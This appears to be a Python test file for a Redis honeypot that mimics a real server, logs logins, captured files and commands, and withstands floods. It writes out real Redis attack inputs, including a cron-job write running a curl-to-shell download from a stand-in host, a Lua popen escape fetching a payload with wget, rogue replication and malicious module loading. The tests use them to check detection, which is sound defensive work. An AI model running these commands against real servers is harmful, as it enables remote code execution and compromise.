# SPDX-License-Identifier: MIT
"""The Redis decoy beside the server that it claims to be, attacked as open servers are, and flooded."""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import os
import re
import shutil
from collections.abc import AsyncIterator
from pathlib import Path
from time import thread_time

import pytest
from tests.decnet_decoys.decky_host import DEADLINE, DeckyHost, fleet_settings
from tests.decnet_decoys.services.dialogues.redis import request
from tests.ports import free_port

from decnet_core.events.catalogue import CommandRun, FileCaptured, LoginAttempt, ServiceRequest
from decnet_decoys.personas.catalog import persona
from decnet_decoys.redis.dispatch import answer as reply_to
from decnet_decoys.redis.instance import Client, Instance
from decnet_decoys.redis.profile import RedisProfile
from decnet_decoys.redis.protocol import Error, Simple
from decnet_decoys.redis.scripts import eval_

SERVER, CLIENT = shutil.which("redis-server"), shutil.which("redis-cli")


@pytest.fixture
async def host(tmp_path: Path) -> AsyncIterator[DeckyHost]:
    made = DeckyHost(tmp_path, fleet_settings("mail-server", offers=("redis",)))
    await made.open()
    yield made
    await made.close()


async def said(port: int, *requests: bytes, address: str = "127.0.0.1") -> list[bytes]:
    """Return the answer to each request, on one connection; the server must answer each at once."""
    reader, writer = await asyncio.open_connection(address, port)
    found = []
    async with asyncio.timeout(DEADLINE):
        for one in requests:
            writer.write(one)
            found.append(await answer(reader))
    writer.close()
    return found


async def answer(reader: asyncio.StreamReader) -> bytes:
    line = await reader.readline()
    if line[:1] == b"$" and line != b"$-1\r\n":
        return line + await reader.readexactly(int(line[1:]) + 2)
    count = {b"*": 1, b"%": 2}.get(line[:1], 0) * int(line[1:] or 0) if line[:1] in b"*%" and line else 0
    return line + b"".join([await answer(reader) for _ in range(max(0, count))])


def words(line: str) -> bytes:
    return request(*(word.encode() for word in line.split()))


async def asked(host: DeckyHost, *lines: str | bytes) -> list[bytes]:
    requests = [words(one) if isinstance(one, str) else one for one in lines]
    return await said(host.decky.services["redis"], *requests, address=host.decky.address)


FIRST_EXCHANGES = """
PING|PING hello|ECHO|ECHO x|FOO a b|AUTH x|AUTH u x|HELLO 9|SELECT 1|SELECT 99|SELECT x|SELECT 0|CONFIG GET dbfilename
CONFIG SET foo 1|CONFIG GET|CONFIG|CONFIG FOO|CLIENT SETNAME x|CLIENT GETNAME|CLIENT SETINFO LIB-NAME x|CLIENT
COMMAND COUNT|ROLE|MODULE LIST|EVALSHA abc 0|SCRIPT EXISTS abc|DBSIZE|KEYS *|GET|GET a|SET a b|GET a|SET a c NX
SET a c XX|SET a c GET|SET a b XX PX|SET a 1 EX 0|LPUSH a x|TYPE a|TYPE none|TTL a|TTL none|SCAN 0|SCAN x|INCR a
SET n 5|INCR n|INCRBY n 10|DECR n|APPEND n 1|STRLEN n|GETSET n 1|MSET x 1 y 2|MGET x y none|EXISTS x y none|DEL x y none
EXPIRE none 3|EXPIRE n x|PERSIST n|RENAME none y|RENAME n m|LPUSH l 1 2 3|RPUSH l 4|LRANGE l 0 -1|LRANGE l 1 1|LLEN l
LPOP l|RPOP l|GET l|HSET h a 1 b 2|HSET h a|HGET h a|HGETALL h|HDEL h a none|MULTI|GET a|INCR q|FOO|EXEC
MULTI|GET a|INCR q|EXEC|EXEC|DISCARD|MULTI|MULTI
DISCARD|LATENCY LATEST|ACL WHOAMI|ACL LIST|DEBUG SLEEP 0|SYSTEM.EXEC id|FLUSHDB|FLUSHALL|SAVE
BGSAVE|WAIT 0 0|SUBSCRIBE
"""


@pytest.mark.skipif(SERVER is None, reason="compares with the real server: install redis-server")
async def test_first_exchanges_are_those_of_the_real_server(host: DeckyHost, tmp_path: Path) -> None:
    port = free_port()
    assert SERVER is not None
    real = await asyncio.create_subprocess_exec(
        SERVER, "--port", str(port), "--bind", "127.0.0.1", "--save", "", "--dir", str(tmp_path),
        "--loglevel", "warning",
    )  # fmt: skip
    lines = [line for line in re.split(r"[|\n]", FIRST_EXCHANGES) if line]
    try:
        async with asyncio.timeout(DEADLINE):
            while True:
                try:
                    await said(port, words("PING"))
                    break
                except OSError:
                    await asyncio.sleep(0.02)
        theirs = await said(port, *map(words, lines))
        await asked(host, "FLUSHALL")
        ours = await asked(host, *lines)
    finally:
        real.terminate()
        await real.wait()
    different = [(line, one, other) for line, one, other in zip(lines, theirs, ours, strict=True) if one != other]
    assert different == []


@pytest.mark.skipif(CLIENT is None, reason="uses the real client: install redis-tools")
async def test_the_real_client_works(host: DeckyHost) -> None:
    assert CLIENT is not None
    process = await asyncio.create_subprocess_exec(
        CLIENT, "-h", host.decky.address, "-p", str(host.decky.services["redis"]),
        stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE, env={**os.environ, "LC_ALL": "C"},
    )  # fmt: skip
    out, _ = await asyncio.wait_for(
        process.communicate(b"INFO server\nKEYS *bayes*\nSET x 'a b'\nGET x\nHELLO 3\n"), 15
    )
    assert b"redis_version:7.0.15" in out
    assert b"os:Linux 6.1.0-28-amd64 x86_64" in out
    assert b"rs_bayes_version" in out
    assert b"OK\na b\n" in out


async def test_a_written_cron_table_is_kept_with_the_path_that_it_would_have_had(host: DeckyHost) -> None:
    job = b"\n\n*/1 * * * * curl -fsSL http://192.0.2.66/x.sh | sh\n\n"
    answers = await asked(
        host,
        "CONFIG SET dir /var/spool/cron/crontabs",
        "CONFIG SET dbfilename root",
        request(b"SET", b"x1", job),
        "SAVE",
        "CONFIG SET dir /nowhere",
    )
    assert answers[:4] == [b"+OK\r\n"] * 4
    assert b"No such file or directory" in answers[4]
    (file,) = await host.until(FileCaptured)
    assert file.name == "/var/spool/cron/crontabs/root"
    content = (host.state.root / "artifacts" / file.sha256[:2] / file.sha256).read_bytes()
    assert job in content
    assert hashlib.sha256(content).hexdigest() == file.sha256
    actions = [one.action for one in await host.until(ServiceRequest, 5)]
    assert actions == ["CONFIG", "CONFIG", "SET", "SAVE", "CONFIG"]


async def test_replication_modules_and_scripts_are_recorded_to_their_end(host: DeckyHost) -> None:
    code = (
        b'local l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = l(); '
        b'local f = io.popen("wget http://192.0.2.66/a -O /tmp/a", "r"); return f:read("*a")'
    )
    answers = await asked(
        host,
        "SLAVEOF 192.0.2.66 21000",
        "ROLE",
        "MODULE LOAD ./exp.so",
        "SYSTEM.EXEC id",
        request(b"EVAL", code, b"0"),
        "SLAVEOF NO ONE",
    )
    assert answers[0] == answers[5] == b"+OK\r\n"
    assert b"192.0.2.66" in answers[1]
    assert b"Error loading the extension" in answers[2]
    (run,) = await host.until(CommandRun)
    assert (run.service, run.command) == ("redis", "wget http://192.0.2.66/a -O /tmp/a")
    recorded = {one.action: one.detail for one in await host.until(ServiceRequest, 6)}
    assert recorded["MODULE"] == {"ARGS": "LOAD ./exp.so"}
    assert recorded["SYSTEM.EXEC"] == {"ARGS": "id", "known": "no"}


def scripted() -> Client:
    return Client(Instance(RedisProfile(), persona("mail-server"), 6379, "1"), ("192.0.2.1", 1), ("192.0.2.2", 6379))


@pytest.mark.parametrize(
    ("code", "reply"),
    [(b" return 7 ; ", 7), (b"return 'x'", b"x"), (b"return {1, 2}", [1, 2]), (b"return redis.call()", None)],
)
def test_a_script_that_returns_a_constant_is_answered(code: bytes, reply: object) -> None:
    assert eval_(scripted(), [code, b"0"]) == reply


def test_no_script_takes_long() -> None:
    best = 1.0
    for _ in range(3):
        began = thread_time()
        eval_(scripted(), [b"return 1" + b" " * 4000 + b"x", b"0"])
        best = min(best, thread_time() - began)
    assert best < 0.02


async def test_what_is_stored_is_there_for_the_next_and_bounded(host: DeckyHost) -> None:
    await asked(host, "SET left behind")
    assert await asked(host, "GET left") == [b"$6\r\nbehind\r\n"]
    big = request(b"SET", b"big", b"x" * 200_000)
    assert [reply[:4] for reply in await asked(host, big, request(b"SET", b"more", b"x" * 100_000))] == [
        b"+OK\r",
        b"-OOM",
    ]
    assert (await asked(host, request(b"MGET", *[b"big"] * 1000)))[0].startswith(b"-OOM")
    field = request(b"HSET", b"hash", b"field", b"x" * 20_000)
    assert (await asked(host, field, request(b"HMGET", b"hash", *[b"field"] * 2000)))[1].startswith(b"-OOM")


async def test_a_password_is_asked_for() -> None:
    instance = Instance(RedisProfile(password="s3cret", protected=True), persona("mail-server"), 6379, "1")
    client = Client(instance, ("192.0.2.1", 1), ("10.0.0.1", 6379))
    refused = Error("NOAUTH Authentication required.")
    assert await reply_to(client, [b"GET", b"a"]) == refused
    assert await reply_to(client, [b"EXEC"]) == refused
    assert await reply_to(client, [b"AUTH", b"guess"]) != Simple("OK")
    assert await reply_to(client, [b"AUTH", b"s3cret"]) == Simple("OK")
    assert await reply_to(client, [b"GET", b"a"]) is None
    for words in ([b"CONFIG", b"SET", b"dir", b"/root/.ssh"], [b"MODULE", b"LOAD", b"x.so"]):
        assert isinstance(await reply_to(client, words), Error)


async def test_logins_are_recorded(host: DeckyHost) -> None:
    await asked(host, "AUTH foobared", "AUTH admin admin", "HELLO 3 AUTH default x")
    found = [(one.username, one.password, one.success) for one in await host.until(LoginAttempt, 3)]
    assert found == [("default", "foobared", False), ("admin", "admin", False), ("default", "x", True)]


async def test_a_browser_is_sent_away(host: DeckyHost) -> None:
    reader, writer = await asyncio.open_connection(host.decky.address, host.decky.services["redis"])
    writer.write(b"POST / HTTP/1.1\r\nHost: x\r\n\r\n")
    async with asyncio.timeout(DEADLINE):
        assert await reader.read() == b""
    writer.close()
    first, second = await host.until(ServiceRequest, 2)
    assert (first.action, first.detail["protocol"], second.action) == ("other protocol", "http", "POST")


async def test_a_transaction_is_bounded_though_its_words_are_empty() -> None:
    client = Client(Instance(RedisProfile(), persona("mail-server"), 6379, "1"), ("192.0.2.1", 1), ("192.0.2.2", 6379))
    assert await reply_to(client, [b"MULTI"]) == Simple("OK")
    replies = [await reply_to(client, [b"PING", *[b""] * 2000]) for _ in range(10)]
    assert replies.count(Simple("QUEUED")) == 4
    assert client.queued is not None
    assert sum(map(len, client.queued)) < 10_000


MEMBERS = [b"%x" % at for at in range(1800)]
FLOODS = {
    "pipelined": request(b"KEYS", b"*a*b*") * 4000,
    "stars": request(b"KEYS", b"*" * 5000) * 50,
    "small arguments": request(*[b""] * 60_000),
    "a transaction": request(b"MULTI") + request(b"GET", b"big") * 250 + request(b"EXEC"),
    "options": request(b"SET", b"a", b"b", *[b"GET"] * 17_000),
    "fields": request(b"HSET", b"h", *[b"%d" % at for at in range(300)]) + request(b"HDEL", b"h", *[b"x"] * 17_000),
    "popen": request(b"EVAL", b"popen(" * 20_000, b"0") * 3,
    "quotes": b'"' + b"\\x4" * 20_000 + b"\r\n",
    "sets": request(b"SELECT", b"1")
    + request(b"SADD", b"one", *MEMBERS)
    + request(b"SADD", b"other", *[b"x" + member for member in MEMBERS])
    + b"".join(request(name, b"one", *[b"other", b"one"] * 1000) for name in (b"SINTER", b"SUNION", b"SDIFF"))
    + request(b"SINTER", *[b"other"] * 2000) * 5,
    "config": request(b"CONFIG", b"GET", *[b"*a*b*c*"] * 1000) * 20,
}


@pytest.mark.parametrize("name", FLOODS)
async def test_no_flood_holds_the_loop(host: DeckyHost, name: str) -> None:
    await asked(host, request(b"SET", b"big", b"x" * 200_000), *[f"SET {'ab' * 60}{at} x" for at in range(200)])
    reader, writer = await asyncio.open_connection(host.decky.address, host.decky.services["redis"], limit=1 << 22)
    writer.write(FLOODS[name])
    writer.write_eof()
    async with asyncio.timeout(4 * DEADLINE):
        with contextlib.suppress(ConnectionResetError):  # closed before all of it was read
            while await reader.read(1 << 20):
                pass
    writer.close()
    assert host.ctx.counters.snapshot()["decoys_stretches"] == 0
    assert host.ctx.counters.snapshot()["decoys_memory_left"] == host.settings.limits.memory_bytes
